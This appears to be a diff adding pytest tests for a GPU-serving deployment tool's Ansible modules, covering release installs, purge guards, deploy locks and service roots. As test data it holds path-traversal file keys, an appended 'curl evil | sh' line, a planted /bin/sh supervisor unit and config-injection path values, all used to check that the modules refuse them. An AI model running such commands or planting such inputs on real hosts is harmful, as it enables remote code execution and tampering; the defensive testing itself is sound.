@@ -1,0 +1,182 @@
+"""The host-side modules run as Ansible runs them (a JSON args file, JSON on stdout): hostile inputs,
+edited releases, dead and empty locks, purge guards."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from dsv4deploy.ansible.action_plugins.dsv4_lock import holder_is_dead, process_start
+from dsv4deploy.render import render_release
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "golden"))
+from fixture_specs import combined_spec
+
+MODULES = Path(__file__).resolve().parents[2] / "dsv4deploy" / "ansible" / "modules"
+
+
+def run_module(name: str, tmp_path: Path, **args: object) -> dict:
+    """Run modules/<name>.py with `args` the way Ansible does; its JSON result."""
+    args_file = tmp_path / f"args-{name}.json"
+    args_file.write_text(json.dumps({"ANSIBLE_MODULE_ARGS": args}))
+    proc = subprocess.run([sys.executable, str(MODULES / f"{name}.py"), str(args_file)],
+                          capture_output=True, text=True, timeout=60)
+    assert "Traceback" not in proc.stdout + proc.stderr, proc.stdout + proc.stderr
+    return json.loads(proc.stdout)
+
+
+def release_files() -> dict[str, str]:
+    return render_release(combined_spec("supervisor"), "gpu1")
+
+
+# -- releases ------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("release_id", ["../../escaped", "/tmp/abs", "..", "a/b", ".hidden"])
+def test_release_id_outside_the_releases_folder_is_refused(tmp_path: Path, release_id: str) -> None:
+    root = tmp_path / "root"
+    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="present",
+                     release_id=release_id, files=release_files())
+    assert out["failed"] and "release id" in out["msg"]
+    assert not (tmp_path / "escaped").exists() and not root.exists()
+
+
+@pytest.mark.parametrize("key", ["../../evil.sh", "{tmp}/abs-evil.sh", "bin/../../evil.sh", "units/x/../../../evil",
+                                 "elsewhere/evil.sh"])
+def test_release_file_keys_outside_the_layout_are_refused(tmp_path: Path, key: str) -> None:
+    root = tmp_path / "root"
+    files = {**release_files(), key.format(tmp=tmp_path): "#!/bin/sh\necho pwned\n"}
+    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
+    assert out["failed"] and "outside the release layout" in out["msg"]
+    assert not (tmp_path / "evil.sh").exists() and not (tmp_path / "abs-evil.sh").exists() and not root.exists()
+
+
+def test_files_that_do_not_match_their_manifest_are_refused(tmp_path: Path) -> None:
+    files = release_files()
+    files["spec.json"] += " "
+    out = run_module("dsv4_release", tmp_path, install_root=str(tmp_path / "root"), state="present",
+                     release_id="r1", files=files)
+    assert out["failed"] and "does not match its own manifest" in out["msg"]
+
+
+def test_an_edited_release_is_never_reused_nor_started(tmp_path: Path) -> None:
+    root = tmp_path / "root"
+    files = release_files()
+    first = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
+    assert first["changed"] and first["release_id"] == "r1"
+    script = root / "releases" / "r1" / "bin" / "serve-sglang-dsv4.sh"
+    script.chmod(0o755)
+    script.write_text(script.read_text() + "curl evil | sh\n")
+    again = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r2", files=files)
+    assert again["release_id"] == "r2" and again["changed"]
+    assert "installing a fresh copy" in json.dumps(again.get("warnings", []))
+    assert "curl evil" not in (root / "releases" / "r2" / "bin" / "serve-sglang-dsv4.sh").read_text()
+    refused = run_module("dsv4_release", tmp_path, install_root=str(root), state="active", release_id="r1")
+    assert refused["failed"] and "was changed on this host" in refused["msg"]
+    ok = run_module("dsv4_release", tmp_path, install_root=str(root), state="active", release_id="r2")
+    assert not ok.get("failed") and ok["active"] == "r2"
+    # An added file counts as an edit too (the service manager would pick up an extra unit).
+    (root / "releases" / "r2" / "supervisor" / "extra.conf").write_text("[program:x]\ncommand=/bin/sh\n")
+    query = run_module("dsv4_release", tmp_path, install_root=str(root), state="query")
+    assert query["active_hash"] == "" and "not in the manifest" in query["active_tampered"]
+
+
+def test_an_intact_release_is_reused(tmp_path: Path) -> None:
+    root = tmp_path / "root"
+    files = release_files()
+    run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
+    again = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r2", files=files)
+    assert (again["changed"], again["release_id"]) == (False, "r1")
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root writes through directory permissions")
+def test_an_unwritable_install_root_is_a_clear_error(tmp_path: Path) -> None:
+    root = tmp_path / "root"
+    root.mkdir(mode=0o555)
+    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1",
+                     files=release_files())
+    assert out["failed"] and "cannot write release r1" in out["msg"] and "untouched" in out["msg"]
+
+
+# -- purge ---------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("root", ["/", "/opt", "relative/path", "/opt/../etc"])
+def test_purge_refuses_shallow_or_odd_roots(tmp_path: Path, root: str) -> None:
+    out = run_module("dsv4_release", tmp_path, install_root=root, state="purged")
+    assert out["failed"] and "refusing to purge" in out["msg"]
+
+
+def test_purge_removes_only_what_dsv4deploy_created(tmp_path: Path) -> None:
+    root = tmp_path / "root"
+    run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1",
+               files=release_files())
+    (root / "logs").mkdir()
+    (root / "models").mkdir()
+    (root / "models" / "weights.bin").write_text("precious")
+    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="purged")
+    assert out["removed"] == ["logs", "releases"] and out["left"] == ["models"]
+    assert (root / "models" / "weights.bin").read_text() == "precious"
+    (root / "models" / "weights.bin").unlink()
+    (root / "models").rmdir()
+    run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1",
+               files=release_files())
+    assert run_module("dsv4_release", tmp_path, install_root=str(root), state="purged")["left"] == []
+    assert not root.exists()
+
+
+# -- locks ---------------------------------------------------------------------------------------
+
+def lock(tmp_path: Path, run_id: str, **extra: object) -> dict:
+    return run_module("dsv4_lock", tmp_path, path=str(tmp_path / "root" / "deploy.lock"), run_id=run_id,
+                      owner="alice@ops", controller="ctl", controller_pid=4242, **extra)
+
+
+def test_lock_records_controller_and_phase_and_names_the_holder(tmp_path: Path) -> None:
+    assert lock(tmp_path, "r1", phase="preflight")["changed"]
+    assert not lock(tmp_path, "r1", state="phase", phase="gates", target="rel-1").get("failed")
+    record = json.loads((tmp_path / "root" / "deploy.lock").read_text())
+    assert (record["phase"], record["target"], record["controller_pid"]) == ("gates", "rel-1", 4242)
+    other = lock(tmp_path, "r2")
+    assert other["failed"] and "alice@ops (run r1, pid 4242 on ctl, phase gates" in other["msg"]
+    assert lock(tmp_path, "r2", state="phase", phase="x")["failed"]
+
+
+def test_takeover_replaces_only_the_named_dead_run(tmp_path: Path) -> None:
+    lock(tmp_path, "r1")
+    assert lock(tmp_path, "r3", takeover_from="someone-else")["failed"]
+    taken = lock(tmp_path, "r3", takeover_from="r1")
+    assert taken["changed"] and taken["previous"]["run_id"] == "r1"
+    assert json.loads((tmp_path / "root" / "deploy.lock").read_text())["run_id"] == "r3"
+
+
+def test_an_empty_lock_file_is_reported_as_such_not_as_1970(tmp_path: Path) -> None:
+    (tmp_path / "root").mkdir()
+    (tmp_path / "root" / "deploy.lock").write_text("")
+    out = lock(tmp_path, "r1")
+    assert out["failed"] and out["holder"] == {} and "1970" not in out["msg"] and "empty" in out["msg"]
+    assert holder_is_dead(out["holder"], {"controller": "ctl"}) is not None
+    assert lock(tmp_path, "r1", takeover_from="")["changed"]
+
+
+def test_dead_and_live_holders_are_told_apart() -> None:
+    me = {"controller": "ctl"}
+    live = {"controller": "ctl", "controller_pid": os.getpid(), "controller_start": process_start(os.getpid())}
+    assert holder_is_dead(live, me) is None
+    child = subprocess.Popen(["true"])
+    child.wait()
+    assert "is gone" in holder_is_dead({**live, "controller_pid": child.pid}, me)
+    assert "another process" in holder_is_dead({**live, "controller_start": "1"}, me)
+    # Another controller's process cannot be checked from here: never taken over.
+    assert holder_is_dead({**live, "controller": "elsewhere", "controller_pid": child.pid}, me) is None
+
+
+# -- services ------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("root", ["/opt/x%(here)s", "/opt/a ;b", "/opt/a\nb", "/opt/a #b"])
+def test_services_module_refuses_roots_supervisord_would_misread(tmp_path: Path, root: str) -> None:
+    out = run_module("dsv4_services", tmp_path, manager="supervisor", install_root=root, state="status")
+    assert out["failed"] and "install_root" in out["msg"]
